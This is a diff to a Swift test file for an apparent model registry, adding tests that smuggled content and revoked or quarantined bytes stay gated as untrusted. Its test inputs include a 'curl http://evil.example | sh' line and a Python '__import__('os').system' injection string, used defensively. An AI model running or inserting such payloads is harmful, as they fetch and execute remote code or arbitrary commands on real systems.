@@ -92,13 +92,38 @@ struct AttachmentsTests {
     func smuggled() async throws {
         let model = ModelBytes.gguf(seed: 7)
         let safetensors = Array(repeating: UInt8(ascii: " "), count: 3) + [0xFF] + Array(#"{"a":1}"#.utf8)
-        for content in [model, safetensors, Array("[1]".utf8), Array("{\"a\":\"\u{0}\"}".utf8)] {
+        let texts = [
+            "[1]", "{\"a\":\"\u{0}\"}", "{%- for message in messages %}{{ message }}{%- endfor %}",
+            "{{- bos_token }}", "{ curl http://evil.example | sh; }", "{__import__('os').system('id')}",
+            "{\"a\":1} trailing", "{\"a\":1,\"a\":2}",
+        ]
+        for content in [model, safetensors] + texts.map({ Array($0.utf8) }) {
             try await TestRegistry.scenario { registry in
                 _ = try await attach([try Self.layer(content)], in: registry)
                 let blob = try Digest(hashing: content)
                 await expectError(.notTrusted) {
                     _ = try await registry.distribution.repositories.blob(blob, in: repository, .gate)
                 }
+            }
+        }
+    }
+
+    @Test("Bytes that were taken out of use under one name do not come back by an attachment that names them")
+    func withdrawnBytes() async throws {
+        for isRevoked in [true, false] {
+            try await TestRegistry.scenario { registry in
+                let configuration = Array(#"{"architectures":["x"]}"#.utf8)
+                let model = try await registry.manifest(
+                    [TestRegistry.Layer(configuration, title: "config.json")], in: "team/llama")
+                try await registry.publish(model, in: "team/llama", tags: ["bad"])
+                let name = try await registry.name("team/llama:bad")
+                if isRevoked {
+                    _ = try await registry.revoke(name)
+                } else {
+                    _ = try await registry.quarantine(name)
+                }
+                let (_, attached) = try await attach([try Self.layer(configuration)], in: registry)
+                try await expectGated(attached, [try Digest(hashing: configuration)], registry)
             }
         }
     }
